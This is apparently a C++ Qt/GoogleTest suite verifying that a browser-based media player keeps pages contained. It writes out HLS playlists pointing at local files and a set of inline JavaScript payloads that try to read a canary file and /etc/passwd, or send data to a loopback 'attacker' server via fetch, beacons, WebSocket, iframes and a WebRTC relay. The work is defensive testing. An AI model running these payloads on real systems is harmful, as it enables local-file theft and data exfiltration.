// Pages are contained: a publisher's playlist cannot make the page read a
// local file (nor learn whether one exists from what the page fetches next),
// and a page planted beside the player pages reads nothing of the user's,
// reaches no other address, leaves the origin for no local page, loads no
// frame, downloads nothing and gets nothing out.
#include "loopback_http_server.h"
#include "platform/qt/browser/origin_server.h"
#include "real_window.h"

#include <QTest>
#include <gtest/gtest.h>

#include <fstream>

namespace qinghe::test {
namespace {

void write(const fs::path& path, const std::string& text) {
    fs::create_directories(path.parent_path());
    std::ofstream(path) << text;
}

class ContainedPageTest : public RealWindowTest {
protected:
    ContainedPageTest() : attacker(QString::fromStdString((attacker_dir.path()).string())) {}

    void SetUp() override {
        RealWindowTest::SetUp();
        write(outside.path() / "canary.txt", "CANARY-7f3a");
    }

    std::string attacker_url(const std::string& path) const { return attacker.base().toStdString() + path; }
    std::string canary_url() const { return "file://" + (outside.path() / "canary.txt").string(); }
    QString state() { return page_value(QStringLiteral("document.body.getAttribute('data-state')")).toString(); }

    // Shows the player page for an identifier, as the window does for a click.
    void show_player(const std::string& identifier) {
        browser.navigate((dir.path() / "bg" / "tudou.htm").string() + "?kwelo_iid=" + identifier);
        ASSERT_TRUE(wait_until([&] { return shown_identifier().toStdString() == identifier; }, 20000));
    }

    TempDir attacker_dir;
    TempDir outside;
    LoopbackHttpServer attacker;
};

// A playlist that names a local file is refused whole: the page fails with
// its network message, and the publisher sees the same requests whether the
// file is there or not.
TEST_F(ContainedPageTest, PlaylistNamingALocalFileReadsNothingAndTellsNothing) {
    struct Case {
        const char* what;
        std::string playlist;  // "@" stands for the local address
    };
    const std::string segments = "#EXTINF:2,\nseg0.ts\n#EXTINF:2,\nseg1.ts\n#EXT-X-ENDLIST\n";
    const std::vector<Case> cases = {
        {"key", "#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXT-X-KEY:METHOD=AES-128,URI=\"@\"\n" + segments},
        {"segment", "#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\n@\n" + segments},
        {"map", "#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXT-X-MAP:URI=\"@\"\n" + segments},
        {"variant", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=100000\n@\n"},
        {"nested variant", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=100000\nnested-@.m3u8\n"},
        {"data key",
         "#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXT-X-KEY:METHOD=AES-128,URI=\"data:,0123456789abcdef\"\n" + segments},
    };
    for (std::size_t i = 0; i < cases.size(); ++i) {
        SCOPED_TRACE(cases[i].what);
        std::vector<qsizetype> seen;
        for (const std::string& local : {canary_url(), canary_url() + ".missing"}) {
            const std::string name = "case" + std::to_string(i) + (seen.empty() ? "a" : "b");
            std::string text = cases[i].playlist;
            for (auto at = text.find('@'); at != std::string::npos; at = text.find('@'))
                text.replace(at, 1, text.find("nested-") != std::string::npos ? name : local);
            write(attacker_dir.path() / (name + ".m3u8"), text);
            // The nested case's variant names the local file in its own segment list.
            write(attacker_dir.path() / ("nested-" + name + ".m3u8"),
                  "#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\n" + local + "\n#EXT-X-ENDLIST\n");
            const qsizetype before = attacker.requests().size();
            ASSERT_NO_FATAL_FAILURE(show_player(attacker_url(name + ".m3u8")));
            ASSERT_TRUE(wait_until([&] { return state() == QStringLiteral("failed"); }, 30000))
                << state().toStdString();
            seen.push_back(attacker.requests().size() - before);
        }
        EXPECT_EQ(seen[0], seen[1]);
        EXPECT_GE(seen[0], 1);
    }
}

// Scripts a page beside the player pages might carry inline, as such pages
// run their own; each records what it managed in window.got. None may read
// the canary or any address the gateway did not hand out, and the attacker's
// server must see no connection at all.
TEST_F(ContainedPageTest, PlantedPageReadsNothingAndSendsNothingOut) {
    const std::string attack = attacker_url("collect");
    const std::string relay =
        "turn:127.0.0.1:" + std::to_string(QUrl(QString::fromStdString(attack)).port()) + "?transport=tcp";
    const std::vector<std::pair<const char*, std::string>> scripts = {
        {"fetch elsewhere", "fetch('" + attack + "?f').then(r => r.text()).then(t => got += t, e => got += 'x');"},
        {"fetch file", "fetch('" + canary_url() + "').then(r => r.text()).then(t => got += t, e => got += 'x');"},
        {"xhr file", "var r = new XMLHttpRequest(); r.open('GET', '" + canary_url() +
                         "'); r.onload = () => got += r.responseText; r.send();"},
        {"gateway, other identifier",
         "fetch('../gateway/play?kwelo_iid=" + canary_url() + "').then(r => got += r.status, e => got += 'x');"},
        {"gateway, forged reference",
         "fetch('../gateway/00000000000000000000000000000000/0').then(r => got += "
         "r.status, e => got += 'x');"},
        {"beacon", "navigator.sendBeacon('" + attack + "?b', 'data');"},
        {"image", "new Image().src = '" + attack + "?i';"},
        {"stylesheet", "var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '" + attack +
                           "?s'; document.head.appendChild(l);"},
        {"websocket", "try { new WebSocket('" + attack + "'.replace('http', 'ws')); } catch (e) {}"},
        {"iframe file",
         "var f = document.createElement('iframe'); f.src = 'file:///etc/passwd'; "
         "document.body.appendChild(f); f.onload = () => { try { got += "
         "f.contentDocument.body.textContent; } catch (e) {} };"},
        {"iframe elsewhere",
         "var f = document.createElement('iframe'); f.src = '" + attack + "?frame'; document.body.appendChild(f);"},
        {"download", "var a = document.createElement('a'); a.href = '" + attack +
                         "?dl'; a.download = 'x'; document.body.appendChild(a); a.click();"},
        {"new window", "window.open('" + attack + "?w');"},
        {"navigate to file", "location.href = '" + canary_url() + "';"},
        {"meta refresh to file",
         "var m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = "
         "'0;url=" +
             canary_url() + "'; document.head.appendChild(m);"},
        {"navigate elsewhere", "location.href = '" + attack + "?nav';"},
        {"preconnect", "var l = document.createElement('link'); l.rel = 'preconnect'; l.href = '" + attack +
                           "'; document.head.appendChild(l);"},
        // A peer connection whose relay server is the attacker's would connect out at once.
        {"webrtc relay", "var p = new RTCPeerConnection({iceServers: [{urls: '" + relay +
                             "', username: 'u', credential: 'c'}]}); p.createDataChannel('x');"
                             " p.createOffer().then(o => p.setLocalDescription(o));"},
    };
    for (const auto& [what, script] : scripts) {
        SCOPED_TRACE(what);
        write(dir.path() / "bg" / "planted.htm",
              "<html><head></head><body><script>var got = '';\n" + script + "</script></body></html>");
        browser.navigate((dir.path() / "bg" / "planted.htm").string() + "?kwelo_iid=media/demo.webm");
        ASSERT_TRUE(wait_until([&] { return page_value(QStringLiteral("typeof got")).toString() == "string"; }, 20000));
        QTest::qWait(1500);  // what the script set off has long arrived by now
        const QString got = page_value(QStringLiteral("typeof got === 'string' ? got : 'left'")).toString();
        EXPECT_FALSE(got.contains(QStringLiteral("CANARY"))) << got.toStdString();
        EXPECT_FALSE(got.contains(QStringLiteral("root:"))) << got.toStdString();
        EXPECT_FALSE(got.contains(QStringLiteral("200"))) << got.toStdString();
        EXPECT_TRUE(browser.origin().owns(view->url())) << view->url().toString().toStdString();
        EXPECT_EQ(attacker.connections(), 0) << attacker.requests().join(' ').toStdString();
    }
}

}  // namespace
}  // namespace qinghe::test
